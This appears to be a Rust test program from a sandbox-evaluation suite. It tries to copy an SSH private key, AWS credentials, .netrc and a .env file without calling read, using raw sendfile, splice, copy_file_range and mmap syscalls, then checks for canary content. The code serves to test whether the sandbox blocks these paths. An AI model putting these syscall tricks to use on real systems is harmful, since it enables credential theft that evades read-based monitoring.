//! No byte passes through `read`: but a descriptor of the secret is needed.

use std::fs::File;
use std::os::fd::AsRawFd;

use trick::sys::call;

const MMAP: i64 = 9;
const SENDFILE: i64 = 40;
const SPLICE: i64 = 275;
const COPY_FILE_RANGE: i64 = 326;

fn main() {
    let copy = |way: &str, secret: &str, number: i64| {
        let path = trick::out_dir().join(way);
        let to = File::create(&path).unwrap();
        let Ok(from) = File::open(trick::home().join(secret)) else { return };
        let (from, to) = (i64::from(from.as_raw_fd()), i64::from(to.as_raw_fd()));
        match number {
            SENDFILE => drop(call(SENDFILE, &[to, from, 0, 4096])),
            COPY_FILE_RANGE => drop(call(COPY_FILE_RANGE, &[from, 0, to, 0, 4096, 0])),
            _ => {
                let (reader, writer) = std::io::pipe().unwrap();
                let _ = call(SPLICE, &[from, 0, i64::from(writer.as_raw_fd()), 0, 4096, 0]);
                drop(writer);
                let _ = call(SPLICE, &[i64::from(reader.as_raw_fd()), 0, to, 0, 4096, 0]);
            }
        }
        trick::try_read(way, path);
    };
    copy("sendfile", ".ssh/id_ed25519", SENDFILE);
    copy("splice", ".aws/credentials", SPLICE);
    copy("copy-file-range", ".netrc", COPY_FILE_RANGE);
    if let Ok(file) = File::open(trick::dotenv())
        && let Ok(at) = call(MMAP, &[0, 4096, 1, 2, i64::from(file.as_raw_fd()), 0])
        && trick::is_canary(unsafe { std::slice::from_raw_parts(at as *const u8, 256) })
    {
        trick::won("mmap");
    }
}
